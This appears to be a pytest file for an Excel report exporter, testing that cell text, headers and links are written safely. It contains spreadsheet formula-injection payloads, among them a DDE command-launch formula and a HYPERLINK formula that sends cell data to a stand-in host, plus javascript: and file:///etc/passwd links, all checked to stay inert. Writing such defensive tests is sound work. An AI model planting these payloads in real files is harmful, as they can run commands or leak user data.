"""What openpyxl alone gets wrong: each row of the list of its pitfalls, shown right here."""

from __future__ import annotations

import zipfile
from typing import TYPE_CHECKING

import openpyxl
import pytest
from workbook_rules import faults

from exporters.excel import exporter
from exporters.excel.sheet_table import MOST_COLUMNS
from exporters.verify import compare
from report_data.ids import BlockId
from report_data.model import Cell, Column, Meta, Paragraph, Report, Run, Table

if TYPE_CHECKING:
    from made_workbook import MadeWorkbook, MakeWorkbook
    from openpyxl.worksheet.worksheet import Worksheet


def table(*rows: tuple[str, ...], header: tuple[str, ...] = ("值", "n")) -> Report:
    def cells(texts: tuple[str, ...]) -> tuple[Cell, ...]:
        return tuple(Cell((Run(text),) if text else ()) for text in texts)

    columns = tuple(Column(cell) for cell in cells(header))
    block = Table(id=BlockId("t"), columns=columns, rows=tuple(map(cells, rows)))
    return Report(meta=Meta(title="报告"), children=(block,))


def sheet(made: MadeWorkbook) -> Worksheet:
    """Return the first table's sheet as openpyxl reads it, after the checks that all share."""
    assert faults(made.path) == []
    proof = compare(made.report, exporter.read(made.path), made.context.words, made.context.names)
    assert [str(item) for item in proof.diagnostics] == []
    return openpyxl.load_workbook(made.path).worksheets[2]


def body(made: MadeWorkbook) -> list[object]:
    page = sheet(made)
    return [page.cell(row, 1).value for row in range(4, page.max_row + 1)]


FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "\t=1+1",
    "＝1+1",
    "{=1}",
    "%0A=1+1",
    "'=1",
)


def test_no_text_becomes_a_formula(make_workbook: MakeWorkbook) -> None:
    report = table(*((text, text) for text in FORMULAS), header=("=1+1", "@b"))
    made = make_workbook(report)
    page = sheet(made)
    for row, text in enumerate(FORMULAS, 4):
        cell = page.cell(row, 1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix == (text[0] not in "{'")
    assert page["A3"].value == "=1+1"
    assert page["A3"].data_type == "s"


def test_a_title_like_a_formula_stays_text(make_workbook: MakeWorkbook) -> None:
    made = make_workbook("# =HYPERLINK(1)\n\n+1+1\n\n## =2\n\n| a |\n|---|\n| 1 |\n")
    sheet(made)


def test_an_error_s_name_is_text(make_workbook: MakeWorkbook) -> None:
    page = sheet(make_workbook(table(("#N/A", "1"), ("#REF!", "2"))))
    assert [(page[f"A{row}"].value, page[f"A{row}"].data_type) for row in (4, 5)] == [
        ("#N/A", "s"),
        ("#REF!", "s"),
    ]


def test_control_characters_go_with_a_warning(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("a\x0bb\x00\ufffe\ud800", "1")))
    assert faults(made.path) == []
    assert openpyxl.load_workbook(made.path).worksheets[2]["A4"].value == "ab"
    assert made.codes == ["W601"]


def test_what_reads_as_an_escape_is_escaped(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("_x0041_", "1"), ("_x005F_", "2"), header=("_x0042_", "n")))
    sheet(made)
    with zipfile.ZipFile(made.path) as archive:
        xml = archive.read("xl/worksheets/sheet3.xml").decode()
        assert "<t>_x005F_x0041_</t>" in xml
        assert "<t>_x005F_x005F_</t>" in xml
        assert 'name="_x005F_x0042_"' in archive.read("xl/tables/table2.xml").decode()


def test_a_text_beyond_a_cell_goes_on_in_the_full_text(make_workbook: MakeWorkbook) -> None:
    long = "长" * 32_767 + "尾"
    made = make_workbook(table((long, "1"), ("😀" * 20_000, "2")))
    page = sheet(made)
    assert len(str(page["A4"].value)) == 32_767
    assert page["A4"].hyperlink.location == "'全文'!B5"
    text = openpyxl.load_workbook(made.path).worksheets[1]
    assert text["B5"].value == "尾"
    assert text["B6"].value == "😀" * (20_000 - 32_766 // 2)
    assert made.codes == ["W602", "W602"]


def test_a_paragraph_beyond_a_cell_goes_on_below(make_workbook: MakeWorkbook) -> None:
    content = (Run("甲" * 40_000, link="https://example.org/"),)
    block = Paragraph(id=BlockId("p"), content=content)
    made = make_workbook(Report(meta=Meta(title="报告"), children=(block,)))
    assert faults(made.path) == []
    text = openpyxl.load_workbook(made.path, rich_text=True).worksheets[1]
    assert [len(str(text[f"B{row}"].value)) for row in (4, 5)] == [32_767, 7_233]
    assert made.codes == ["W602"]


def test_more_line_breaks_than_a_cell_shows_go_on(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("\n".join(map(str, range(600))), "1")))
    sheet(made)
    assert made.codes == ["W602"]


def test_long_whole_numbers_keep_their_digits(make_workbook: MakeWorkbook) -> None:
    assert body(make_workbook(table(("123456789012345678", "1"), ("223456789012345678", "2")))) == [
        "123456789012345678",
        "223456789012345678",
    ]


def test_dates_before_excel_s_calendar_are_text(make_workbook: MakeWorkbook) -> None:
    assert body(make_workbook(table(("1899-12-31", "1")))) == ["1899-12-31"]


def test_missing_numbers_are_shown_as_written(make_workbook: MakeWorkbook) -> None:
    assert body(make_workbook(table(("1.5", "1"), ("–", "2"), ("N/A", "3"), ("", "4")))) == [
        1.5,
        "–",
        "N/A",
        None,
    ]


@pytest.mark.parametrize("address", ["javascript:alert(1)", "file:///etc/passwd", r"\\host\x", ""])
def test_only_harmless_links_are_links(make_workbook: MakeWorkbook, address: str) -> None:
    content = (Run("text", link=address),)
    rows = ((Cell(content), Cell((Run("1"),))),)
    block = Table(
        id=BlockId("t"), columns=(Column(Cell((Run("a"),))), Column(Cell((Run("b"),)))), rows=rows
    )
    made = make_workbook(Report(meta=Meta(title="报告"), children=(block,)))
    assert sheet(made)["A4"].hyperlink is None


def test_links_are_links(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(
        "# T\n\n## A {#a}\n\n[x](https://example.org/?a=1&b=2) and [mail](mailto:a@example.org)\n\n"
        "[within](#a)\n\n[outside](https://example.org/)\n"
    )
    assert faults(made.path) == []
    page = openpyxl.load_workbook(made.path).worksheets[1]
    assert page["B5"].hyperlink.target == "https://example.org/?a=1&b=2"
    assert "mailto:a@example.org" in page["B5"].comment.text  # a cell has one link
    assert page["B6"].hyperlink.location == "'Full text'!B4"
    assert page["B7"].comment is None


def test_a_sheet_has_no_more_links_than_excel_follows(
    make_workbook: MakeWorkbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("exporters.excel.cells.MOST_LINKS", 3)
    rows = "\n".join(f"| [x{n}](https://example.org/{n}) |" for n in range(5))
    made = make_workbook(f"| a |\n|---|\n{rows}\n")
    page = sheet(made)
    links = [page[f"A{row}"].hyperlink for row in range(4, 9)]
    assert [link is not None for link in links] == [True, True, True, False, False]
    assert made.codes == ["W606"]


def test_headers_that_repeat_or_are_empty_become_unique_texts(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("1", "2", "3", "4", "5"), header=("A", "a", "", "2024", "A")))
    page = sheet(made)
    headers = [page.cell(3, column).value for column in range(1, 6)]
    assert headers == ["A", "a (2)", "列 3", "2024", "A (3)"]
    assert made.codes == ["W605"]


def test_a_table_of_facts_has_no_header_and_nothing_is_wrong(make_workbook: MakeWorkbook) -> None:
    made = make_workbook("# 题\n\n| | |\n|---|---|\n| 时间 | 周四 |\n")
    assert [(one.code, one.severity.name) for one in made.context.diagnostics] == [("W605", "NOTE")]


def test_a_long_header_goes_on_in_the_full_text(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("1", "2"), header=("很长的表头" * 60, "n")))
    page = sheet(made)
    assert len(str(page["A3"].value)) == 240
    assert made.codes == ["W602"]


def test_links_within_the_workbook_are_places(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("1", "2")))
    page = openpyxl.load_workbook(made.path).worksheets[0]
    links = [cell.hyperlink for row in page.iter_rows() for cell in row if cell.hyperlink]
    assert [link.location for link in links] == ["'全文'!A1", "'表 1 报告'!A1"]
    assert all(link.target is None for link in links)


def test_widths_are_measured_for_chinese(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("汉" * 20, "abc")))
    page = sheet(made)
    # 20 x 11 pt = 220 pt, 6 pt a digit: 36.7 digits, and room for the padding
    assert 37 < page.column_dimensions["A"].width < 42
    assert page.column_dimensions["B"].width == made.context.theme.sheet.width_least


def test_tall_rows_fit_their_text(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("汉字" * 100, "abc")))
    page = sheet(made)
    # 200 x 11 pt in a column of 60 digits of 6 pt, less padding: 7 lines of 17 pt
    assert page.row_dimensions[4].height == 7 * 17 + 5


def test_sheet_names_are_counted_as_excel_counts(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(
        "".join(f"# {title}\n\n| a |\n|---|\n| 1 |\n\n" for title in ("😀" * 20, "'x'", "x"))
    )
    assert faults(made.path) == []


def test_fonts_are_named_without_a_theme(make_workbook: MakeWorkbook) -> None:
    made = make_workbook(table(("1", "2")))
    with zipfile.ZipFile(made.path) as archive:
        styles = archive.read("xl/styles.xml").decode()
    assert "scheme" not in styles
    assert "Calibri" not in styles
    assert 'name val="Microsoft YaHei"' in styles


def test_more_columns_than_a_sheet_has_go_on_to_another(
    make_workbook: MakeWorkbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert MOST_COLUMNS == 16_384
    monkeypatch.setattr("exporters.excel.sheet_table.MOST_COLUMNS", 40)
    count = 45
    report = table(tuple(str(n) for n in range(count)), header=tuple(f"c{n}" for n in range(count)))
    made = make_workbook(report)
    assert [len(one.widths) for one in made.plan.sheets[2:]] == [40, 5]
    assert made.plan.sheets[3].name.endswith("(2)")
    assert made.codes == ["W603"]
    sheet(made)


def test_more_rows_than_a_sheet_has_go_on_to_another(
    make_workbook: MakeWorkbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("exporters.excel.sheet_table.MOST_ROWS", 13)
    made = make_workbook(table(*((f"r{n}", str(n)) for n in range(25))))
    assert [one.length for one in made.plan.sheets[2:]] == [10, 10, 5]
    assert made.codes == ["W603"]
    sheet(made)
